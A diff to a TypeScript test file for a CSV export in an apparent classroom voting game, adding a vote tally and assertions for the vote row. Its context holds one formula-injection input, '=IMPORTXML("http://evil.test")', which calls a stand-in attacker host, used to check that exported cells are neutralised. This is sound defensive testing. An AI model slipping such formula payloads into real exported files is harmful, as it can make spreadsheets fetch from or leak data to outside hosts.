@@ -114,7 +114,7 @@ describe('resultsToCsv', () => {
     const g = Game.start(mini, { role: 'host', seed });
     g.choose('ask_yes', { rationale: 'Yes, because "they" asked,\nand we must.', tally: { ask_yes: 3, ask_no: 1 } });
     g.choose('assess_yes', { rationale: '=IMPORTXML("http://evil.test")' });
-    g.callVote({ rationale: '-risky but right' });
+    g.callVote({ rationale: '-risky but right', tally: { support: 14, abstain: 3, object: 5 } });
     while (!g.ended) g.continue();
     return g;
   }
@@ -158,6 +158,9 @@ describe('resultsToCsv', () => {
     ]);
     expect(col(first[0] as string[], 'student')).toBe('\'@admin, "the" student');
     expect(col(first[0] as string[], 'tally')).toBe('ask_yes: 3; ask_no: 1');
+    // The room's vote on the proposal at the Council step.
+    expect(col(first[2] as string[], 'step')).toBe('vote');
+    expect(col(first[2] as string[], 'tally')).toBe('support: 14; abstain: 3; object: 5');
     // No cell a spreadsheet would run as a formula.
     for (const row of body) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
